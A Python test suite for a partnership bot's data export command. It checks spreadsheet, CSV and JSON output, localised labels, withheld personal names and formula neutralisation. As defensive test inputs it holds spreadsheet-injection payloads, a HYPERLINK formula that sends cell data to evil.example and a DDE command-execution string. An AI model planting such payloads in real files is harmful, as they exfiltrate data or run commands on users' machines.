"""`alliance export` in each format, opened with its standard reader: one table per XLSX sheet
and per CSV file, what a coordinator reads of each partnership, scores per organisation,
each organisation's decision, labels next to codes, local dates, names withheld, formulas
inert."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from bot.exporting import TABLES, WITHHELD, header_width
from bot.services import Actor, Services
from storage import repository
from storage.db import make_engine, session_scope
from storage.models import Alert, FlowSession, Organisation, Partnership, PartnershipHealth
from tests.bot.checkins import evaluated_partnership, rounds_of
from tests.bot.client import Client
from tests.bot.test_checkins_e2e import EVERYONE, PULSE_ANSWERS, REVIEW_ANSWERS, answer

DIMENSIONS = 9
PARIS = ZoneInfo("Europe/Paris")
# The export's clock: a week after the partnership was signed (tests/bot/checkins.SIGNED).
AT = "2027-01-22T12:00:00+01:00"
OURS, THEIRS = (101, 102), (201, 202)
REPRESENTATIVE = "Jeanne Martin, présidente"


def organisations(url: str, pid: int, **partner: str) -> tuple[int, int]:
    """Both sides' organisations, attached to the partnership."""
    engine = make_engine(url)
    with session_scope(engine) as db:
        ours = Organisation(
            name="Association Rebond",
            kind="association",
            identifier="W751234567",
            representative=REPRESENTATIVE,
        )
        theirs = Organisation(**({"name": "Boulangeries Martin", "kind": "company"} | partner))
        db.add_all([ours, theirs])
        db.flush()
        partnership = db.get(Partnership, pid)
        partnership.our_organisation_id, partnership.partner_organisation_id = ours.id, theirs.id
        partnership.theme = "Emploi des jeunes"
        partnership.territory = "Seine-Saint-Denis"
        db.add(partnership)
        ids = ours.id, theirs.id
    engine.dispose()
    return ids


@pytest.fixture
def evaluated(sqlite_url):
    """A partnership of two organisations whose pulse was answered by its four respondents
    (ours rate performance 2, the partner's 4) and whose full review ended split (ours renew,
    the partner's end); with a health and an open alert. And another partnership."""
    pid = evaluated_partnership(sqlite_url)
    evaluated_partnership(sqlite_url, ours=(301,), theirs=(401,), name="Autre")
    organisations(sqlite_url, pid)
    engine = make_engine(sqlite_url)
    service = Client(Services(engine))
    owner = Actor("tg:101", "fr")
    service.partnership_button(owner, service.button(pid, "round", "pulse"), 1)
    (pulse,) = rounds_of(sqlite_url, pid)
    for chat in EVERYONE:
        performance = "2 trop lent" if chat in OURS else "4"
        answer(service, chat, pulse.id, PULSE_ANSWERS | {"performance": performance})
    service.partnership_button(owner, service.button(pid, "round", "review"), 1)
    review = next(r for r in rounds_of(sqlite_url, pid) if r.kind == "review")
    for chat in EVERYONE:
        decision = "Renouveler" if chat in OURS else "Arrêter"
        answer(service, chat, review.id, REVIEW_ANSWERS | {"decision": decision})
    with session_scope(engine) as db:
        db.add(
            PartnershipHealth(
                partnership_id=pid,
                light="amber",
                reasons=[{"signal": "perceptions_diverging", "subject": "performance"}],
            )
        )
        db.add(Alert(partnership_id=pid, signal="perceptions_diverging", level="amber"))
        db.add(Alert(partnership_id=pid, signal="round_late", level="amber", state="handled"))
    engine.dispose()
    return sqlite_url, pid


def alliance_export(url: str, *args: str, language: str = "fr") -> subprocess.CompletedProcess:
    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", "export", "--at", AT, "--language", language, *args],
        env={"DATABASE_URL": url, "PATH": "", "ALLIANCE_TIMEZONE": "Europe/Paris"},
        capture_output=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr.decode()
    return done


def sheet_rows(book, name: str) -> list[dict]:
    header, *rows = book[name].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def zip_tables(data: bytes) -> dict[str, list[dict]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name.removesuffix(".csv"): list(
                csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig")))
            )
            for name in archive.namelist()
        }


def folder_tables(folder) -> dict[str, list[dict]]:
    tables = {}
    for path in sorted(folder.iterdir()):
        with path.open(encoding="utf-8-sig", newline="") as stream:
            tables[path.stem] = list(csv.DictReader(stream))
    return tables


def created_at(url: str, pid: int) -> datetime:
    engine = make_engine(url)
    with session_scope(engine) as db:
        moment = db.get(Partnership, pid).created_at
    engine.dispose()
    return moment if moment.tzinfo else moment.replace(tzinfo=UTC)


def test_xlsx_has_a_sheet_per_table_with_frozen_header_filters_and_widths(evaluated, tmp_path):
    url, pid = evaluated
    alliance_export(url, "--format", "xlsx", "-o", str(tmp_path / "export.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "export.xlsx")
    assert book.sheetnames == list(TABLES)
    for name, columns in TABLES.items():
        sheet = book[name]
        header = next(sheet.iter_rows(max_row=1, values_only=True))
        assert list(header) == [c.name for c in columns], name
        assert sheet.freeze_panes == "A2", name
        last = sheet.cell(1, len(columns)).column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}", name
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
        assert widths == [header_width(c) for c in columns], name
        assert all(w >= len(c.name) for w, c in zip(widths, columns, strict=True)), name
        assert all(cell.font.bold for cell in sheet[1]), name
    partnerships = {row["partnership_id"]: row for row in sheet_rows(book, "partnerships")}
    assert len(partnerships) == 2
    # Dates are real date cells, in Paris time, to the second.
    row = next(r for r in book["partnerships"].iter_rows(min_row=2) if r[0].value == pid)
    created = {c.column_letter: c for c in row}[
        openpyxl.utils.get_column_letter(
            [c.name for c in TABLES["partnerships"]].index("created_at") + 1
        )
    ]
    assert created.is_date and created.number_format == "yyyy-mm-dd hh:mm"
    expected = created_at(url, pid).astimezone(PARIS).replace(tzinfo=None, microsecond=0)
    assert created.value == expected


def test_xlsx_tells_a_coordinator_where_each_partnership_stands(evaluated, tmp_path):
    url, pid = evaluated
    alliance_export(url, "--format", "xlsx", "-o", str(tmp_path / "export.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "export.xlsx")
    ours = next(r for r in sheet_rows(book, "partnerships") if r["partnership_id"] == pid)
    since = created_at(url, pid).astimezone(PARIS).date()
    assert (
        ours
        | {
            "our_organisation": "Association Rebond",
            "partner_organisation": "Boulangeries Martin",
            "theme": "Emploi des jeunes",
            "territory": "Seine-Saint-Denis",
            # The split review left it in the evaluation, for the members to decide.
            "step": 7,
            "step_name": "évaluation",
            "stage": "evaluation",
            "days_in_stage": (datetime(2027, 1, 22).date() - since).days,
            # Signed on 15 January 2027: the first pulse six weeks later, 9:00 in Paris.
            "next_checkin": datetime(2027, 2, 26, 9, 0),
            "next_checkin_kind": "point d’étape",
            "convention_agreed": "0/" + ours["convention_agreed"].split("/")[1],
            "health": "amber",
            "health_reasons": "Les deux organisations ne voient pas la même chose (performance)",
            "open_alerts": 1,
        }
        == ours
    )
    assert isinstance(ours["last_activity"], datetime) and ours["convention_missing"] > 0
    assert int(ours["convention_agreed"].split("/")[1]) >= 18
    # The open alert, not the handled one, with its title.
    (alert,) = sheet_rows(book, "alerts")
    assert (alert["signal"], alert["state"], alert["partnership_id"]) == (
        "perceptions_diverging",
        "new",
        pid,
    )
    assert alert["signal_name"] == "Les deux organisations ne voient pas la même chose"
    assert isinstance(alert["raised_at"], datetime)
    other = next(r for r in sheet_rows(book, "partnerships") if r["partnership_id"] != pid)
    # No organisation recorded: the names typed with the partnership; no health yet.
    assert (other["our_organisation"], other["partner_organisation"]) == (
        "Association Rebond",
        "Boulangeries Martin",
    )
    assert (other["health"], other["health_reasons"], other["open_alerts"]) == (None, None, 0)


def test_scores_per_organisation_and_each_sides_decision(evaluated, tmp_path):
    url, pid = evaluated
    alliance_export(url, "--format", "xlsx", "-o", str(tmp_path / "export.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "export.xlsx")
    scores = [r for r in sheet_rows(book, "scores") if r["partnership_id"] == pid]
    pulse = [r for r in scores if r["kind"] == "pulse"]
    assert len(pulse) == 2 * DIMENSIONS
    performance = {r["side"]: r for r in pulse if r["dimension"] == "performance"}
    assert {side: r["score"] for side, r in performance.items()} == {"ours": 2, "partner": 4}
    assert performance["ours"]["organisation"] == "Association Rebond"
    assert performance["partner"]["organisation"] == "Boulangeries Martin"
    assert performance["ours"]["dimension_name"] == "Performance"
    assert performance["ours"]["scored_by"] == 2
    assert all(isinstance(r["due_at"], datetime) for r in scores)
    rounds = {r["kind"]: r for r in sheet_rows(book, "rounds") if r["partnership_id"] == pid}
    review = rounds["review"]
    assert (review["decision_ours"], review["decision_partner"]) == ("renouveler", "arrêter")
    assert review["decision"] == "Association Rebond: renouveler / Boulangeries Martin: arrêter"
    assert (review["invited_ours"], review["answered_ours"]) == (2, 2)
    assert (review["invited_partner"], review["answered_partner"]) == (2, 2)
    assert rounds["pulse"]["decision"] is None and rounds["pulse"]["kind_name"] == "point d’étape"
    assert review["kind_name"] == "bilan complet"
    assert not any(v == "None" for r in sheet_rows(book, "rounds") for v in r.values())


def test_answers_carry_their_label_next_to_their_code_in_the_chosen_language(evaluated, tmp_path):
    url, pid = evaluated
    for language, label, question in (
        ("fr", "Renouveler", "Décision"),
        ("en", "Renew", "Decision"),
    ):
        out = tmp_path / f"export-{language}.xlsx"
        alliance_export(url, "--format", "xlsx", "-o", str(out), language=language)
        answers = sheet_rows(openpyxl.load_workbook(out), "answers")
        decisions = [r for r in answers if r["question"] == "decision" and r["value"] == "renew"]
        assert len(decisions) == 2
        assert {(r["value_label"], r["question_label"]) for r in decisions} == {(label, question)}
        # A rating reads as its score, its label with the comment.
        performance = {
            (r["value"], r["value_label"]) for r in answers if r["question"] == "performance"
        }
        assert performance == {("2", "2 — trop lent"), ("4", None)}
        assert not [r for r in answers if r["value"] in ("null", "None")]
        steps = sheet_rows(openpyxl.load_workbook(out), "partnerships")
        assert {r["step_name"] for r in steps} == {
            "évaluation" if language == "fr" else "evaluation",
            "mise en œuvre" if language == "fr" else "implementation",
        }


def test_csv_is_a_zip_of_one_file_per_table_or_a_folder(evaluated, tmp_path):
    url, pid = evaluated
    on_screen = zip_tables(alliance_export(url, "--format", "csv").stdout)
    alliance_export(url, "--format", "csv", "-o", str(tmp_path / "export.zip"))
    in_file = zip_tables((tmp_path / "export.zip").read_bytes())
    alliance_export(url, "-o", str(tmp_path / "tables"))
    in_folder = folder_tables(tmp_path / "tables")
    assert on_screen == in_file == in_folder
    assert set(in_file) == set(TABLES)
    for name in in_file:
        with zipfile.ZipFile(tmp_path / "export.zip") as archive:
            header = next(csv.reader(io.StringIO(archive.read(f"{name}.csv").decode("utf-8-sig"))))
        assert header == [c.name for c in TABLES[name]], name
    tables = in_file
    assert {r["partnership"] for r in tables["partnerships"]} == {"Alliance Emploi", "Autre"}
    ours = [r for r in tables["members"] if r["partnership_id"] == str(pid)]
    assert len(ours) == 4 and all(r["member"].startswith("membre-") for r in ours)
    assert {r["organisation"] for r in ours} == {"Association Rebond", "Boulangeries Martin"}
    assert len(tables["scores"]) == 2 * DIMENSIONS + 2 * DIMENSIONS
    (row,) = [r for r in tables["partnerships"] if r["partnership_id"] == str(pid)]
    # Local time, ISO 8601, to the second.
    assert row["next_checkin"] == "2027-02-26 09:00:00"
    moment = datetime.fromisoformat(row["created_at"])
    expected = created_at(url, pid).astimezone(PARIS).replace(tzinfo=None, microsecond=0)
    assert moment == expected and "." not in row["created_at"]
    assert [o["name"] for o in tables["organisations"]] == [
        "Association Rebond",
        "Boulangeries Martin",
    ]


def test_a_csv_file_that_is_not_a_zip_is_refused(evaluated, tmp_path):
    url, _ = evaluated
    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", "export", "-o", str(tmp_path / "export.csv")],
        env={"DATABASE_URL": url, "PATH": ""},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2 and "FILE.zip" in done.stderr


def test_json_holds_each_partnership_with_its_tables(evaluated):
    url, pid = evaluated
    data = json.loads(alliance_export(url, "--format", "json", "--names").stdout)
    first = next(p for p in data["partnerships"] if p["partnership_id"] == pid)
    assert {m["member"] for m in first["members"]} >= {"Contact 102", "Contact 201"}
    assert len([s for s in first["scores"] if s["kind"] == "pulse"]) == 2 * DIMENSIONS
    assert first["next_checkin"] == "2027-02-26T09:00:00+01:00"


def test_one_partnership_or_one_organisations_alone(evaluated, sqlite_url):
    url, pid = evaluated
    data = json.loads(alliance_export(url, "--format", "json", "--partnership", str(pid)).stdout)
    assert [p["partnership"] for p in data["partnerships"]] == ["Alliance Emploi"]
    third = evaluated_partnership(url, ours=(501,), theirs=(601,), name="Troisième")
    ours, _ = organisations(url, third, name="Mairie de Bobigny", kind="local_authority")
    data = json.loads(alliance_export(url, "--format", "json", "--organisation", str(ours)).stdout)
    assert [p["partnership"] for p in data["partnerships"]] == ["Troisième"]
    assert [o["name"] for o in data["partnerships"][0]["organisations"]] == [
        "Association Rebond",
        "Mairie de Bobigny",
    ]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
REFERENT = "Claire Dupont (moi)"
PHONE = "06 12 34 56 78"
PERSONAL = ("Claire Dupont", "Marc Lefèvre", PHONE, "Jeanne Martin")


def partnership_with_answers(url: str, *, name: str, organisation: str, answers: dict) -> int:
    """A partnership created by a member who answered each questionnaire given {id: answers}."""
    engine = make_engine(url)
    with session_scope(engine) as db:
        owner = repository.get_or_create_user(db, external_id="tg:901", language="fr")
        partnership = repository.create_partnership(
            db, user=owner, name=name, our_organisation=organisation, partner_name="@SUM(1+1)"
        )
        db.flush()
        for flow, given in answers.items():
            state = {"questionnaire": flow, "state": "done", "answers": given}
            db.add(
                FlowSession(
                    user_id=owner.id,
                    flow=flow,
                    status="done",
                    state=state,
                    partnership_id=partnership.id,
                )
            )
        pid = partnership.id
    engine.dispose()
    return pid


def xlsx_values(path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_formulas_are_exported_inert_in_csv_and_xlsx(evaluated, tmp_path):
    url, _ = evaluated
    pid = partnership_with_answers(
        url,
        name=FORMULA,
        organisation="+33 1 23 45 67 89",
        answers={"followup": {"communication_plan": FORMULA, "frequency": "-1", "actions": "\tx"}},
    )
    organisations(url, pid, name="-2+3", seat="=cmd|' /C calc'!A0")
    alliance_export(url, "-o", str(tmp_path / "tables"))
    tables = folder_tables(tmp_path / "tables")
    (partnership,) = [r for r in tables["partnerships"] if r["partnership_id"] == str(pid)]
    assert partnership["partnership"] == "'" + FORMULA
    # The organisation's name wins over the typed one; a typed one would be quoted too.
    assert partnership["our_organisation"] == "Association Rebond"
    assert partnership["partner_organisation"] == "'-2+3"
    (seat,) = [o["seat"] for o in tables["organisations"] if o["name"] == "'-2+3"]
    assert seat == "'=cmd|' /C calc'!A0"
    answers = {
        r["question"]: r["value"] for r in tables["answers"] if r["partnership"][1:] == FORMULA
    }
    assert answers == {"communication_plan": "'" + FORMULA, "frequency": "'-1", "actions": "'\tx"}

    alliance_export(url, "--format", "xlsx", "-o", str(tmp_path / "export.xlsx"))
    cells = xlsx_values(tmp_path / "export.xlsx")
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {"'" + FORMULA, "'-2+3", "'=cmd|' /C calc'!A0", "'-1", "'\tx"} <= texts
    scores = openpyxl.load_workbook(tmp_path / "export.xlsx")["scores"]
    column = [c.name for c in TABLES["scores"]].index("score")
    assert all(
        isinstance(row[column], (int, float)) for row in scores.iter_rows(2, values_only=True)
    )


def test_a_typed_organisation_name_is_inert_too(sqlite_url, tmp_path):
    partnership_with_answers(sqlite_url, name="A", organisation="+33 1 23", answers={})
    alliance_export(sqlite_url, "-o", str(tmp_path / "tables"))
    (row,) = folder_tables(tmp_path / "tables")["partnerships"]
    assert (row["our_organisation"], row["partner_organisation"]) == ("'+33 1 23", "'@SUM(1+1)")


@pytest.fixture
def referents(sqlite_url):
    """A partnership whose /suivi names referents and a committee, and whose convention
    names each party's representative; its organisation names its representative."""
    pid = partnership_with_answers(
        sqlite_url,
        name="Alliance Emploi",
        organisation="Rebond",
        answers={
            "followup": {
                "referent_ours": REFERENT,
                "referent_partner": f"Marc Lefèvre, {PHONE}",
                "steering_committee": "yes",
                "committee_members": "Claire Dupont et Marc Lefèvre",
                "communication_plan": "Une lettre aux adhérents",
            },
            "convention": {
                "p_ours": "association ; Paris ; RNA W751234567 ; Jeanne Martin, présidente",
                "p_partner": f"SAS ; Bobigny ; SIREN 812 345 678 ; Marc Lefèvre, {PHONE}",
                "c_steering": ["referents", "steering_committee"],
                "t_referents_ours": "Claire Dupont, coordinatrice",
                "t_referents_partner": "Marc Lefèvre",
                "t_steering_committee": "Jeanne Martin et Marc Lefèvre",
            },
            "note": {"text": f"Appeler Marc Lefèvre au {PHONE}"},
        },
    )
    organisations(sqlite_url, pid)
    return sqlite_url, pid


def exported_texts(url: str, tmp_path, *names: str) -> dict[str, str]:
    """The whole export in each format, as one text per format."""
    alliance_export(url, "-o", str(tmp_path / "export.zip"), *names)
    alliance_export(url, "--format", "xlsx", "-o", str(tmp_path / "export.xlsx"), *names)
    tables = zip_tables((tmp_path / "export.zip").read_bytes())
    return {
        "csv": json.dumps(tables, ensure_ascii=False),
        "json": alliance_export(url, "--format", "json", *names).stdout.decode(),
        "xlsx": "\n".join(str(c.value) for c in xlsx_values(tmp_path / "export.xlsx")),
    }


def test_an_export_without_names_holds_no_referent_representative_or_phone(referents, tmp_path):
    url, pid = referents
    for form, text in exported_texts(url, tmp_path).items():
        assert [found for found in PERSONAL if found in text] == [], form
        assert WITHHELD in text and "Une lettre aux adhérents" in text, form
        assert "W751234567" in text, form  # the organisation's identifier is no person's
    data = json.loads(alliance_export(url, "--format", "json").stdout)
    (item,) = [p for p in data["partnerships"] if p["partnership_id"] == pid]
    withheld = {a["question"] for a in item["answers"] if a["value"] == WITHHELD}
    assert withheld == {
        "referent_ours",
        "referent_partner",
        "committee_members",
        "p_ours",
        "p_partner",
        "t_referents_ours",
        "t_referents_partner",
        "t_steering_committee",
        "text",
    }
    assert {o["representative"] for o in item["organisations"]} == {WITHHELD, None}


def test_an_export_with_names_holds_them(referents, tmp_path):
    url, _ = referents
    for form, text in exported_texts(url, tmp_path, "--names").items():
        assert [found for found in PERSONAL if found not in text] == [], form
        assert REFERENT in text and WITHHELD not in text and REPRESENTATIVE in text, form


def test_days_in_stage_count_from_the_last_move_into_it(evaluated, tmp_path):
    url, pid = evaluated
    engine = make_engine(url)
    with session_scope(engine) as db:
        partnership = db.get(Partnership, pid)
        repository.record_move(
            db,
            partnership=partnership,
            user_id=partnership.created_by,
            trigger="back",
            dest="formalisation",
        )
    engine.dispose()
    later = (datetime.now(UTC) + timedelta(days=12)).isoformat()
    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", "export", "--format", "json", "--at", later],
        env={"DATABASE_URL": url, "PATH": ""},
        capture_output=True,
        text=True,
        timeout=120,
    )
    (row,) = [p for p in json.loads(done.stdout)["partnerships"] if p["partnership_id"] == pid]
    assert (row["step"], row["stage"], row["days_in_stage"]) == (5, "formalisation", 12)
    # Out of the evaluated stages, no check-in comes.
    assert row["next_checkin"] is None and row["next_checkin_kind"] is None
